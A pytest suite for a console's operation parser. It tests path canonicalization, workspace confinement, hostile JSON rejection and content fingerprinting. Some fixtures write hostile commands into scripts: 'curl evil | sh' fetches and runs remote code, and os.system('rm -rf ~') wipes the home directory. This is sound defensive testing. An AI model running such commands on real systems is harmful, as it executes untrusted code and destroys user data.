"""Validation and canonicalization of operations, on a real filesystem."""

from __future__ import annotations

import base64
import json
import os

import pytest

from console.contract.capabilities import Capability, CapabilityKind
from console.contract.content import interpreter_family, script_argument
from console.contract.host import OSHost
from console.contract.operation import (
    MAX_STDIN_BYTES,
    Kind,
    Network,
    Origin,
    WorkspaceAccess,
    parse,
)
from console.contract.problem import InvalidInput

HOST = OSHost()
SECRET = "hunter2-SECRET-VALUE"


@pytest.fixture
def ws(tmp_path):
    root = tmp_path / "project"
    (root / "src").mkdir(parents=True)
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / "build.sh").write_text("#!/bin/sh\necho build\n")
    (root / "build.sh").chmod(0o755)
    return root


def op(ws, **fields):
    base = {"kind": "process", "executable": "true", "workspace_root": str(ws)}
    base.update(fields)
    return base


def problem_of(data, host=HOST):
    with pytest.raises(InvalidInput) as info:
        parse(data, host)
    return info.value.problem


def test_defaults_are_applied(ws):
    o = parse(op(ws), HOST)
    assert o.origin.value == "interactive_command"
    assert o.mode.value == "captured"
    assert o.tool == "process"
    assert o.args == ()
    assert o.cwd == "."
    assert o.timeout_ms == 120_000
    assert (o.output.capture_bytes, o.output.max_bytes) == (65536, 8388608)
    assert o.workspace_access is WorkspaceAccess.READ_ONLY
    assert o.network is Network.NONE
    assert o.executable == os.path.realpath("/usr/bin/true") or o.executable == os.path.realpath("/bin/true")


def test_bare_executable_uses_the_trusted_path_not_the_agents(ws, monkeypatch, tmp_path):
    evil = tmp_path / "evil"
    evil.mkdir()
    (evil / "git").write_text("#!/bin/sh\n")
    (evil / "git").chmod(0o755)
    monkeypatch.setenv("PATH", str(evil))
    o = parse(op(ws, executable="git", env={"PATH": str(evil)}), HOST)
    assert not o.executable.startswith(str(evil))


def test_relative_executable_is_resolved_against_cwd(ws):
    o = parse(op(ws, executable="./build.sh"), HOST)
    assert o.executable == str(ws / "build.sh")


def test_symlinked_workspace_is_canonical(ws, tmp_path):
    link = tmp_path / "link"
    link.symlink_to(ws)
    o = parse(op(link), HOST)
    assert o.workspace_root == str(ws)


@pytest.mark.parametrize(
    ("fields", "field", "reason"),
    [
        ({"kind": "bogus"}, "kind", "unknown_value"),
        ({"kind": 3}, "kind", "wrong_type"),
        ({"origin": "cron"}, "origin", "unknown_value"),
        ({"mode": "detached"}, "mode", "unknown_value"),
        ({"network": "some"}, "network", "unknown_value"),
        ({"workspace_access": "rw"}, "workspace_access", "unknown_value"),
        ({"args": "ls -l"}, "args", "wrong_type"),
        ({"args": ["ok", 3]}, "args[1]", "wrong_type"),
        ({"args": ["a\x00b"]}, "args[0]", "nul_byte"),
        ({"env": ["A=1"]}, "env", "wrong_type"),
        ({"env": {"A=B": "1"}}, "env[0]", "invalid_env_name"),
        ({"env": {"": "1"}}, "env[0]", "invalid_env_name"),
        ({"env": {"A\x00": "1"}}, "env[0]", "invalid_env_name"),
        ({"env": {"A": 1}}, "env[0]", "wrong_type"),
        ({"env": {"A": "x\x00y"}}, "env[0]", "nul_byte"),
        ({"timeout_ms": 0}, "timeout_ms", "out_of_range"),
        ({"timeout_ms": -5}, "timeout_ms", "out_of_range"),
        ({"timeout_ms": 1.5}, "timeout_ms", "wrong_type"),
        ({"timeout_ms": True}, "timeout_ms", "wrong_type"),
        ({"timeout_ms": 10**12}, "timeout_ms", "out_of_range"),
        ({"output": {"capture_bytes": 10, "max_bytes": 5}}, "output.capture_bytes", "out_of_range"),
        ({"output": {"capture_bytes": 10, "extra": 1}}, "output", "unknown_field"),
        ({"output": {"max_bytes": 0}}, "output.max_bytes", "out_of_range"),
        ({"stdin": "not base64!"}, "stdin", "invalid_base64"),
        ({"write_dirs": ["relative/dir"]}, "write_dirs[0]", "not_absolute"),
        ({"capabilities": [{"kind": "root"}]}, "capabilities[0].kind", "unknown_value"),
        ({"capabilities": [{"kind": "unrestricted", "why": "x"}]}, "capabilities[0]", "invalid_capability"),
        ({"capabilities": [{"scope": "x"}]}, "capabilities[0]", "invalid_capability"),
        ({"capabilities": ["unrestricted"]}, "capabilities[0]", "wrong_type"),
        (
            {"capabilities": [{"kind": "workspace_write", "scope": "rel"}]},
            "capabilities[0].scope",
            "not_absolute",
        ),
        ({"tool": "has space"}, "tool", "invalid_tool"),
        ({"tool": ""}, "tool", "invalid_tool"),
        ({"session_id": "x" * 300}, "session_id", "too_long"),
        ({"unexpected": 1}, "", "unknown_field"),
        ({"executable": ""}, "executable", "empty"),
        ({"executable": "definitely-not-a-real-command-xyz"}, "executable", "executable_not_found"),
        ({"workspace_root": "relative"}, "workspace_root", "not_absolute"),
        ({"workspace_root": "/"}, "workspace_root", "workspace_is_root"),
        ({"workspace_root": "/nonexistent/dir/xyz"}, "workspace_root", "not_a_directory"),
        ({"cwd": "../outside"}, "cwd", "parent_reference"),
        ({"cwd": "src/../../x"}, "cwd", "parent_reference"),
        ({"cwd": "/etc"}, "cwd", "outside_workspace"),
        ({"cwd": "missing"}, "cwd", "not_a_directory"),
    ],
)
def test_invalid_fields(ws, fields, field, reason):
    p = problem_of(op(ws, **fields))
    assert (p.field, p.reason) == (field, reason)
    assert p.hint
    assert p.retryable is False


_OPTIONAL = (
    "origin",
    "mode",
    "tool",
    "args",
    "cwd",
    "env",
    "stdin",
    "timeout_ms",
    "output",
    "workspace_access",
    "write_dirs",
    "network",
    "capabilities",
    "justification",
    "session_id",
)


@pytest.mark.parametrize("name", ["kind", "executable", "workspace_root", *_OPTIONAL])
def test_null_is_not_an_absent_field(ws, name):
    p = problem_of(op(ws, **{name: None}))
    assert p.field == name
    assert p.reason == ("invalid_tool" if name == "tool" else "wrong_type")


@pytest.mark.parametrize(
    ("fields", "field", "reason"),
    [
        ({"network": 1, "executable": ""}, "executable", "empty"),
        ({"origin": "x", "mode": "y"}, "origin", "unknown_value"),
        ({"timeout_ms": "5", "cwd": ""}, "cwd", "empty"),
        ({"session_id": 1, "justification": 2}, "justification", "wrong_type"),
        ({"write_dirs": ["rel"], "capabilities": 1}, "write_dirs[0]", "not_absolute"),
        ({"env": 1, "args": 1}, "args", "wrong_type"),
        ({"workspace_root": "", "kind": "x"}, "kind", "unknown_value"),
        ({"workspace_root": "/a\x00", "executable": "b\x00"}, "executable", "nul_byte"),
    ],
)
def test_the_first_bad_field_in_contract_order_is_reported(ws, fields, field, reason):
    p = problem_of(op(ws, **fields))
    assert (p.field, p.reason) == (field, reason)


class _Text(str):
    pass


def test_str_and_int_subclasses_are_checked_as_their_values(ws):
    o = parse(op(ws, kind=Kind.SHELL, origin=Origin.HOOK, network=Network.ANY, cwd=_Text("src")), HOST)
    assert (o.kind, o.origin, o.network, o.cwd) == (Kind.SHELL, Origin.HOOK, Network.ANY, "src")
    assert problem_of(op(ws, cwd=_Text("a\x00"))).reason == "nul_byte"
    assert problem_of(op(ws, timeout_ms=False)).reason == "wrong_type"


def test_missing_required_fields(ws):
    for name in ("kind", "executable", "workspace_root"):
        data = op(ws)
        del data[name]
        assert problem_of(data).reason == "missing"


def test_stdin_limit(ws):
    ok = base64.b64encode(b"x" * MAX_STDIN_BYTES).decode()
    assert len(parse(op(ws, stdin=ok), HOST).stdin) == MAX_STDIN_BYTES
    too_big = base64.b64encode(b"x" * (MAX_STDIN_BYTES + 1)).decode()
    assert problem_of(op(ws, stdin=too_big)).reason in ("too_large", "too_long")


def test_cwd_symlink_escape_is_refused(ws, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (ws / "escape").symlink_to(outside)
    assert problem_of(op(ws, cwd="escape")).reason == "outside_workspace"


def test_absolute_cwd_inside_is_made_relative(ws):
    assert parse(op(ws, cwd=str(ws / "src")), HOST).cwd == "src"


def test_write_dirs_canonical_sorted_deduplicated(ws, tmp_path):
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir()
    b.mkdir()
    (tmp_path / "alink").symlink_to(a)
    o = parse(op(ws, write_dirs=[str(b), str(tmp_path / "alink"), str(a), str(b) + "/"]), HOST)
    assert o.write_dirs == (str(a), str(b))


@pytest.mark.parametrize(
    "text",
    [
        '{"kind":"process","executable":"ls","executable":"rm","workspace_root":"/tmp"}',
        '{"kind":"process","executable":"true","workspace_root":"/tmp","timeout_ms":NaN}',
        '{"kind":"process","executable":"true","workspace_root":"/tmp","timeout_ms":Infinity}',
        '{"kind":"process","executable":"true","workspace_root":"/tmp","justification":"\\ud800"}',
        '{"kind":"process","executable":"true","workspace_root":"/tmp","args":["a\\u0000b"]}',
        '["kind","process"]',
        '"just a string"',
        "{not json",
        "",
        "[" * 100_000 + "]" * 100_000,
    ],
    ids=[
        "duplicate",
        "nan",
        "infinity",
        "lone-surrogate",
        "nul",
        "array",
        "string",
        "broken",
        "empty",
        "deep",
    ],
)
def test_hostile_json_is_refused(text):
    p = problem_of(text)
    assert p.reason
    assert p.hint


def test_invalid_utf8_bytes_are_refused():
    assert problem_of(b'{"kind":"\xff"}').reason == "invalid_utf8"


def test_problem_never_echoes_the_rejected_value(ws):
    cases = [
        op(ws, kind=SECRET),
        op(ws, env={f"{SECRET}=": "x"}),
        op(ws, executable=SECRET),
        op(ws, cwd=SECRET),
        op(ws, **{SECRET: 1}),
        op(ws, tool=SECRET + " !"),
        op(ws, capabilities=[{"kind": SECRET}]),
    ]
    for data in cases:
        p = problem_of(data)
        assert SECRET not in json.dumps(p.to_dict())
        assert SECRET not in str(p)


def test_requested_capabilities_are_derived(ws, tmp_path):
    cache = tmp_path / "cache"
    cache.mkdir()
    o = parse(
        op(
            ws,
            workspace_access="write",
            network="any",
            write_dirs=[str(cache)],
            env={"LD_PRELOAD": "/x.so", "CI": "1"},
            capabilities=[{"kind": "process_control"}],
        ),
        HOST,
    )
    K = CapabilityKind
    assert set(o.requested_capabilities()) == {
        Capability(K.FILESYSTEM_READ),
        Capability(K.PROCESS_SPAWN),
        Capability(K.WORKSPACE_WRITE, str(ws)),
        Capability(K.WORKSPACE_WRITE, str(cache)),
        Capability(K.EXTERNAL_NETWORK),
        Capability(K.ENVIRONMENT, "LD_PRELOAD"),
        Capability(K.PROCESS_CONTROL),
    }


def test_round_trip_through_the_wire_form(ws):
    o = parse(op(ws, args=["-x", "y"], env={"B": "2", "A": "1"}, stdin="aGk=", justification="why"), HOST)
    again = parse(o.to_wire(), HOST)
    assert again == o


# --- content binding, on real files -------------------------------------------------------


def test_editing_a_workspace_executable_changes_the_fingerprint(ws):
    before = parse(op(ws, executable="./build.sh"), HOST).fingerprint
    (ws / "build.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    after = parse(op(ws, executable="./build.sh"), HOST).fingerprint
    assert before != after


def test_editing_an_interpreted_script_changes_the_fingerprint(ws):
    (ws / "run.py").write_text("print(1)\n")
    before = parse(op(ws, executable="python3", args=["run.py"]), HOST)
    assert before.content == ((str(ws / "run.py"), before.content[0][1]),)
    (ws / "run.py").write_text("import os; os.system('rm -rf ~')\n")
    assert parse(op(ws, executable="python3", args=["run.py"]), HOST).fingerprint != before.fingerprint


def test_creating_a_missing_script_changes_the_fingerprint(ws):
    before = parse(op(ws, executable="bash", args=["later.sh"]), HOST)
    assert before.content == ((str(ws / "later.sh"), None),)
    (ws / "later.sh").write_text("echo hi\n")
    assert parse(op(ws, executable="bash", args=["later.sh"]), HOST).fingerprint != before.fingerprint


def test_inline_code_binds_what_it_runs_and_outside_scripts_are_bound(ws):
    # `build.sh` without a slash is looked up on the trusted PATH (not found): nothing.
    assert parse(op(ws, executable="bash", args=["-c", "build.sh"]), HOST).content == ()
    assert parse(op(ws, executable="bash", args=["-c", "./build.sh"]), HOST).content[0][0] == str(
        ws / "build.sh"
    )
    module = parse(op(ws, executable="python3", args=["-m", "pytest"]), HOST)
    assert all(digest is None for _, digest in module.content)
    assert module.unbound == ("content not bound: python -m module resolved at run time",)
    outside = parse(op(ws, executable="python3", args=["/etc/hostname"]), HOST)
    assert outside.content[0][0] == "/etc/hostname" and outside.content[0][1] is not None


def test_symlinked_script_is_bound_by_its_target(ws):
    (ws / "real.sh").write_text("echo 1\n")
    (ws / "alias.sh").symlink_to(ws / "real.sh")
    o = parse(op(ws, executable="sh", args=["alias.sh"]), HOST)
    assert o.content[0][0] == str(ws / "real.sh")


@pytest.mark.parametrize(
    ("family", "args", "script"),
    [
        ("shell", ("-e", "x.sh", "arg"), "x.sh"),
        ("shell", ("-ec", "echo"), None),
        ("shell", ("-o", "pipefail", "x.sh"), "x.sh"),
        ("shell", ("+x", "x.sh"), "x.sh"),
        ("python", ("-W", "ignore", "x.py"), "x.py"),
        ("python", ("-mhttp.server",), None),
        ("python", ("-", "x.py"), None),
        ("python", ("--", "x.py"), "x.py"),
        ("node", ("--require", "ts-node/register", "x.ts"), "x.ts"),
        ("node", ("-e", "1"), None),
        ("perl", ("-E", "say 1"), None),
        ("ruby", ("-I", "lib", "x.rb"), "x.rb"),
    ],
)
def test_script_argument(family, args, script):
    assert script_argument(family, args) == script


def test_interpreter_family_uses_given_or_resolved_name():
    assert interpreter_family("python3.11") == "python"
    assert interpreter_family("/usr/bin/python", "/usr/bin/x") == "python"
    assert interpreter_family("sh", "/usr/bin/dash") == "shell"
    assert interpreter_family("git") is None


def test_an_executable_renamed_over_while_it_is_resolved_is_found(tmp_path, monkeypatch):
    """An editor's save renames a new file over the old one. Resolving a path opens it
    and asks the kernel for its name; when the rename lands between the two, the name
    reads "… (deleted)" and the path was reported missing: `executable_not_found` for a
    script that existed all along (a full run of tests/escapes/test_content_swap.py hit
    it once). The race is microseconds wide, so it is caused here by making the first
    answer the one a rename in between gives."""
    script = tmp_path / "build.sh"
    script.write_text("#!/bin/sh\n")
    script.chmod(0o755)
    real_readlink = os.readlink
    renamed = [True]

    def readlink(path, *args, **kwargs):
        target = real_readlink(path, *args, **kwargs)
        if renamed and str(path).startswith("/proc/self/fd/"):
            renamed.pop()
            return target + " (deleted)"
        return target

    monkeypatch.setattr(os, "readlink", readlink)
    found = OSHost().resolve(str(script))
    assert not renamed  # the fault was met
    assert (found.path, found.kind) == (str(script), "exec")


def test_the_operation_parse_builds_equals_the_dataclass_made_field_by_field(tmp_path):
    """parse() builds an Operation without the frozen dataclass's __init__ (speed); it must
    be the very value the dataclass would make, every field set, nothing else."""
    import dataclasses

    from console.contract.host import OSHost
    from console.contract.operation import Operation, parse

    (tmp_path / "run.sh").write_text("echo hi\n")
    op = parse(
        {
            "kind": "shell",
            "executable": "/bin/sh",
            "args": ["run.sh"],
            "workspace_root": str(tmp_path),
            "env": {"CI": "1"},
            "network": "any",
        },
        OSHost(),
    )
    fields = {f.name: getattr(op, f.name) for f in dataclasses.fields(Operation)}
    assert set(vars(op)) == set(fields)
    made = Operation(**fields)
    assert made == op and made.fingerprint == op.fingerprint
    with pytest.raises(dataclasses.FrozenInstanceError):
        op.args = ()  # type: ignore[misc]
